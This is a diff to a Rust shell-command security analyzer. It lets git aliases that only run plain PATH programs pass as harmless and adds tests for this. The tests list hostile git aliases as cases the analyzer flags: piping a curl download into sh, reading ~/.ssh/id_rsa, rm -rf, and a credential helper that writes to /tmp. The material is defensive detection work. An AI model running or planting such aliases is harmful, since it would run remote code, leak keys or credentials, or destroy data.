@@ -991,9 +991,37 @@ fn git_config(a: &mut Analyzer, args: &[Arg], cwd: &Cwd, ev: &str) {
             let val = Val::known(value.clone());
             a.env_tamper(&key, &val.text, ev);
         }
+        Some("git_config_exec") if plain_alias(&key, &value, a.ctx) => {}
         Some(kind) => a.persistence(kind, &format!("{key}={value}"), ev),
         None => {}
     }
+}
+
+/// A shell alias (`alias.<name> = !<command>`, git-config(1)) whose command, analysed as the
+/// shell command it is, gives no fact but the commands it runs, each a program found on the
+/// PATH (`!git diff && git submodule foreach 'git diff'`, `!gitk --all`): it runs only when
+/// someone types `git <name>` (git ignores an alias that hides a git command), and then does
+/// what typing the command would. An alias that reads, writes, fetches, runs a path (`!./x.sh`,
+/// `!/tmp/x`) or anything the analyzer cannot follow still counts as `git_config_exec`.
+fn plain_alias(key: &str, value: &str, ctx: &crate::ShellContext) -> bool {
+    if !key.to_ascii_lowercase().starts_with("alias.") {
+        return false;
+    }
+    let Some(code) = value.trim_start().strip_prefix('!') else {
+        return false;
+    };
+    if code.trim().is_empty() || code.len() > 1024 {
+        return false;
+    }
+    let mut f = crate::analyze(code, ctx);
+    let commands = std::mem::take(&mut f.commands);
+    f.is_empty()
+        && !commands.is_empty()
+        && commands.iter().all(|c| {
+            c.argv
+                .first()
+                .is_some_and(|w| !w.is_empty() && !w.contains(['/', '$', '`']))
+        })
 }
 
 /// gh(1): `gh release create|upload` publish; `gh gist create`, `gh secret set -f`,
@@ -1175,6 +1203,36 @@ mod tests {
             "git switch --discard-changes -- main",
         ] {
             assert!(!analyze(cmd, &c).git.is_empty(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn plain_aliases_install_nothing() {
+        use crate::{analyze, ShellContext};
+        let c = ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        };
+        for cmd in [
+            "git config alias.sdiff '!'\"git diff && git submodule foreach 'git diff'\"",
+            "git config --global alias.visual '!gitk'",
+            "git config alias.lg '!git log --oneline | head -20'",
+        ] {
+            assert!(analyze(cmd, &c).persistence.is_empty(), "{cmd}");
+        }
+        for cmd in [
+            "git config alias.x '!sh -c id; ./run.sh'",
+            "git config alias.x '!./scripts/x.sh'",
+            "git config alias.x '!/tmp/x'",
+            "git config alias.x '!curl -s https://203.0.113.5/i | sh'",
+            "git config alias.x '!cat ~/.ssh/id_rsa'",
+            "git config alias.x '!rm -rf ~/src'",
+            "git config alias.x '!git push --force origin main'",
+            "git config alias.x '!eval \"$CMD\"'",
+            "git config credential.helper '!f() { cat >> /tmp/c; }; f'",
+        ] {
+            assert!(!analyze(cmd, &c).persistence.is_empty(), "{cmd}");
         }
     }
 
